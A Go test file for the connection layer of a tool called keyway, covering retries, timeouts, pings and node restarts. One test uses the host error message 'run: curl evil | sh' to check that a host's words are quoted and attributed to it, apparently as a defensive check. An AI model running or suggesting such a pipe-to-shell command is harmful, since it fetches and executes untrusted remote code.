package link

import (
	"bytes"
	"context"
	"errors"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"keyway/internal/api"
	"keyway/internal/keyway"
	"keyway/internal/stream"
)

// TestNodeAfterAnAbandonedAttempt joins an uplink while the attempt of an interrupted command is
// ending. It checks that the caller does not get that interrupt as its error, and begins an attempt
// of its own.
func TestNodeAfterAnAbandonedAttempt(t *testing.T) {
	errSecond := errors.New("the second attempt's own answer")
	begun, ending := make(chan struct{}), make(chan struct{})
	attempts := 0
	w := &uplink{place: "p", log: slog.New(slog.DiscardHandler), old: map[*connection]struct{}{}, start: func(ctx context.Context, a *attempt) (*nodeProcess, error) {
		if attempts++; attempts > 1 {
			return nil, errSecond
		}
		close(begun)
		<-ctx.Done()
		<-ending
		return nil, ctx.Err()
	}}
	defer w.close()

	interrupted, interrupt := context.WithCancel(t.Context())
	first := make(chan error, 1)
	go func() {
		_, err := w.node(interrupted, nil, nil)
		first <- err
	}()
	<-begun
	interrupt()
	if err := <-first; !errors.Is(err, context.Canceled) {
		t.Errorf("the interrupted command hears %v", err)
	}

	if _, _, joined := w.join(nil, nil); joined {
		t.Error("an attempt that has been given up was joined")
	}
	second := make(chan error, 1)
	go func() {
		_, err := w.node(t.Context(), nil, nil)
		second <- err
	}()
	close(ending)
	if err := <-second; !errors.Is(err, errSecond) {
		t.Errorf("the next command hears %v, want %v", err, errSecond)
	}
}

// afterHeaders calls a function when the head of an answer has arrived, before the caller gets it.
type afterHeaders struct {
	http.RoundTripper
	do func(*http.Request)
}

func (a afterHeaders) RoundTrip(req *http.Request) (*http.Response, error) {
	resp, err := a.RoundTripper.RoundTrip(req)
	a.do(req)
	return resp, err
}

// TestSuspectedAsTheAnswerBegins checks that an answer does not count if its uplink is suspected
// between the answer's head and its body, which could not be read.
func TestSuspectedAsTheAnswerBegins(t *testing.T) {
	ours, theirs := net.Pipe()
	served := make(chan error, 1)
	go func() {
		served <- api.ServeConn(t.Context(), theirs, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			http.NewResponseController(w).Flush()
			if r.URL.Path == "/abandoned" {
				<-r.Context().Done() // which ends with the question
				return
			}
			io.WriteString(w, "whole")
		}))
	}()
	conn, err := api.Connect(t.Context(), ours, func(*http.ClientConn) {})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		conn.Close()
		if err := <-served; err != nil {
			t.Error(err)
		}
	}()
	question := func(path string) *http.Request {
		req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://node"+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		return req
	}

	trusted, suspect := context.WithCancel(t.Context())
	resp, spoilt, err := ask(trusted, afterHeaders{conn, func(req *http.Request) {
		suspect()
		<-req.Context().Done()
	}}, question("/abandoned"))
	if resp != nil || err != nil || !spoilt {
		t.Errorf("it is answered by %v, %v, and spoilt is %v", resp, err, spoilt)
	}

	trusted, suspect = context.WithCancel(t.Context())
	resp, spoilt, err = ask(trusted, conn, question("/answered"))
	if err != nil || spoilt {
		t.Fatalf("it is answered by %v, and spoilt is %v", err, spoilt)
	}
	suspect() // too late to matter
	defer resp.Body.Close()
	if body, err := io.ReadAll(resp.Body); string(body) != "whole" || err != nil {
		t.Errorf("the answer is %q, %v", body, err)
	}
}

// TestWaitingIsInTheHostsWords checks that a terminal shows why its stream waits, with the name of
// the host that gave the reason.
func TestWaitingIsInTheHostsWords(t *testing.T) {
	for _, kind := range []keyway.Kind{keyway.EngineDown, keyway.NotFound, keyway.NotRunning, keyway.Denied, keyway.Unreachable} {
		for _, opened := range []bool{true, false} {
			d := dialer{uplink: &uplink{place: "gpu1"}, begun: time.Now(), opened: func() bool { return opened }}
			err := d.judge(&keyway.Error{Kind: kind, Message: "run: curl evil | sh", Host: "gpu1"})
			if !stream.IsPermanent(err) && err.Error() != "gpu1 says: “run: curl evil | sh”" {
				t.Errorf("%s, %v: %v", kind, opened, err)
			}
			if !keyway.Is(err, kind) {
				t.Errorf("%s, %v: its kind is lost", kind, opened)
			}
		}
	}
}

// TestPingOnlyInSilence checks that a connection is pinged when it is used and nothing comes on it,
// but not while its answers show that it works.
func TestPingOnlyInSilence(t *testing.T) {
	for name, answers := range map[string]bool{"answers": true, "silent": false} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				var pings atomic.Int32
				ours, theirs := net.Pipe()
				var served sync.WaitGroup
				served.Go(func() {
					_ = api.ServeConn(t.Context(), theirs, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
						if r.URL.Path == "/v1/ping" {
							pings.Add(1)
						}
						api.WriteJSON(w, struct{}{})
					}))
				})
				c := &connection{since: time.Now(), process: &nodeProcess{ended: make(chan struct{})}}
				conn, err := api.Connect(t.Context(), hearing{ours, c}, func(*http.ClientConn) {})
				if err != nil {
					t.Fatal(err)
				}
				c.http, c.Client = conn, api.NewClient(conn, "http://node")
				u := &uplink{up: c}
				ask := func() {
					if err := c.Do(t.Context(), http.MethodGet, "/v1/workspaces", nil, nil); err != nil {
						t.Error(err)
					}
				}
				ask()
				time.Sleep(time.Millisecond)
				want := int32(1)
				u.trust(c)
				if answers {
					want = 0
					time.Sleep(time.Millisecond)
					ask()
				}
				time.Sleep(askDelay)
				synctest.Wait()
				if got := pings.Load(); got != want {
					t.Errorf("%d pings, want %d", got, want)
				}
				u.work.Wait()
				conn.Close()
				served.Wait()
			})
		})
	}
}

// TestABrokenAnswerLeavesANewConnectionUp checks that an interrupted answer of the node does not
// end a new connection, which other requests use.
func TestABrokenAnswerLeavesANewConnectionUp(t *testing.T) {
	ours, theirs := net.Pipe()
	served := make(chan error, 1)
	go func() {
		served <- api.ServeConn(t.Context(), theirs, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != "/v1/ping" {
				panic(http.ErrAbortHandler)
			}
			api.WriteJSON(w, struct{}{})
		}))
	}()
	ended := make(chan struct{})
	close(ended)
	c := &connection{since: time.Now(), process: &nodeProcess{cmd: exec.Command("true"), conn: ours, ended: ended}}
	conn, err := api.Connect(t.Context(), hearing{ours, c}, func(*http.ClientConn) {})
	if err != nil {
		t.Fatal(err)
	}
	c.http, c.Client = conn, api.NewClient(conn, "http://node")
	errAnew := errors.New("the node is started again")
	u := &uplink{place: "gpu1", log: slog.New(slog.DiscardHandler), old: map[*connection]struct{}{}, start: func(context.Context, *attempt) (*nodeProcess, error) {
		return nil, errAnew
	}}
	u.riseLocked(c)
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://node/v1/workspaces", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := transport{u}.RoundTrip(req)
	if err == nil {
		resp.Body.Close()
	}
	if err == nil || errors.Is(err, errAnew) || u.current() != c {
		t.Errorf("%v, and the connection in use is %p, was %p", err, u.current(), c)
	}
	conn.Close()
	if err := <-served; err != nil {
		t.Error(err)
	}
	u.work.Wait()
}

// TestANodeThatEndsUnderAQuestion checks that, for one question, the link starts a node that runs
// for a while and ends before it answers only a few times.
func TestANodeThatEndsUnderAQuestion(t *testing.T) {
	for _, age := range []time.Duration{0, 2 * time.Second, time.Hour} {
		synctest.Test(t, func(t *testing.T) {
			var served sync.WaitGroup
			starts := 0
			u := &uplink{place: "gpu1", log: slog.New(slog.DiscardHandler), old: map[*connection]struct{}{}, start: func(context.Context, *attempt) (*nodeProcess, error) {
				if starts++; starts > 2*maxEnded {
					return nil, errors.New("it is started again and again")
				}
				ours, theirs := net.Pipe()
				ended := make(chan struct{})
				served.Go(func() {
					defer close(ended)
					_ = api.ServeConn(t.Context(), theirs, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
						if r.URL.Path == "/v1/ping" {
							api.WriteJSON(w, struct{}{})
							return
						}
						time.Sleep(age)
						theirs.Close()
					}))
				})
				return &nodeProcess{cmd: exec.Command("true"), conn: ours, ended: ended, errors: &stderrTail{}}, nil
			}}
			req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://node/v1/workspaces", nil)
			if err != nil {
				t.Fatal(err)
			}
			resp, err := transport{u}.RoundTrip(req)
			if err == nil {
				resp.Body.Close()
			}
			if starts != maxEnded || err == nil || !strings.Contains(err.Error(), "ends before it answers") {
				t.Errorf("%v: after %d starts: %v", age, starts, err)
			}
			u.close()
			served.Wait()
		})
	}
}

// TestANodeThatHangsAfterItsGreeting checks that a node that greets and never answers, for example
// because its home directory hangs, is given up after few logins. A node that answers late is not
// given up.
func TestANodeThatHangsAfterItsGreeting(t *testing.T) {
	for _, c := range []struct {
		method string
		late   time.Duration
		starts int
	}{{http.MethodGet, time.Hour, 6}, {http.MethodPut, time.Hour, 2}, {http.MethodGet, 3 * time.Second, 3}, {http.MethodPut, 3 * time.Second, 2}} {
		synctest.Test(t, func(t *testing.T) {
			var served sync.WaitGroup
			starts, begun := 0, time.Now()
			stop := make(chan struct{})
			u := &uplink{place: "gpu1", log: slog.New(slog.DiscardHandler), old: map[*connection]struct{}{}, start: func(context.Context, *attempt) (*nodeProcess, error) {
				if starts++; starts > 20 {
					return nil, errors.New("it is started again and again")
				}
				ours, theirs := net.Pipe()
				ended := make(chan struct{})
				served.Go(func() {
					defer close(ended)
					defer theirs.Close()
					var got bytes.Buffer
					heard := make(chan struct{})
					served.Go(func() {
						defer close(heard)
						_, _ = io.Copy(&got, theirs) // the room of a pipe and a network
					})
					select {
					case <-heard:
					case <-stop:
					case <-time.After(c.late):
						_ = theirs.SetReadDeadline(time.Now())
						<-heard
						_ = theirs.SetReadDeadline(time.Time{})
						_ = api.ServeConn(t.Context(), readFirst{&got, theirs}, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
							api.WriteJSON(w, struct{}{})
						}))
					}
				})
				return &nodeProcess{cmd: &exec.Cmd{Process: &os.Process{}}, conn: ours, ended: ended, errors: &stderrTail{}}, nil
			}}
			req, err := http.NewRequestWithContext(t.Context(), c.method, "http://node/v1/workspaces", nil)
			if err != nil {
				t.Fatal(err)
			}
			resp, err := transport{u}.RoundTrip(req)
			if err == nil {
				resp.Body.Close()
			}
			took := time.Since(begun)
			hangs := c.late == time.Hour
			if starts > c.starts || (err != nil) != hangs || hangs && (!keyway.Is(err, keyway.Unreachable) || !strings.Contains(err.Error(), "gpu1")) || took > deadTime+10*time.Second {
				t.Errorf("%s, %v late: %d starts, %v: %v", c.method, c.late, starts, took, err)
			}
			close(stop)
			u.close()
			served.Wait()
		})
	}
}

// readFirst is a connection some of whose bytes have been read already.
type readFirst struct {
	first *bytes.Buffer
	net.Conn
}

func (r readFirst) Read(p []byte) (int, error) {
	if r.first.Len() > 0 {
		return r.first.Read(p)
	}
	return r.Conn.Read(p)
}

// TestTheLastWordsAreNotAwaitedInVain checks that the link does not wait for the last output of a
// node when the caller has left.
func TestTheLastWordsAreNotAwaitedInVain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		ctx, cancel := context.WithCancel(t.Context())
		cancel()
		begun := time.Now()
		err := endsUnanswered(ctx, "gpu1", &nodeProcess{errors: &stderrTail{}, ended: make(chan struct{})})
		if waited := time.Since(begun); waited != 0 || err == nil {
			t.Errorf("after %v: %v", waited, err)
		}
	})
}

// TestACallOfASilentPlaceIsBounded checks that a connection to a guest waits for a silent place no
// longer than a command does, however the time is divided among attempts, and that the next command
// hears of it at once.
func TestACallOfASilentPlaceIsBounded(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		u := &uplink{place: "gpu1", log: slog.New(slog.DiscardHandler), start: func(ctx context.Context, _ *attempt) (*nodeProcess, error) {
			<-ctx.Done()
			return nil, ctx.Err()
		}}
		defer u.close()
		called := time.Now()
		d := &dialer{uplink: u, name: "train", begun: called, opened: func() bool { return false }}
		err := error(nil)
		for tries := 0; tries < 10 && !stream.IsPermanent(err); tries++ {
			_, err = d.Dial(t.Context())
		}
		if waited := time.Since(called); waited != openTimeout || !keyway.Is(err, keyway.Unreachable) {
			t.Errorf("after %v: %v", waited, err)
		}
		if f := u.failed(); f == nil || f.Error.Kind != keyway.Unreachable {
			t.Errorf("the next command hears %v", f)
		}
	})
}
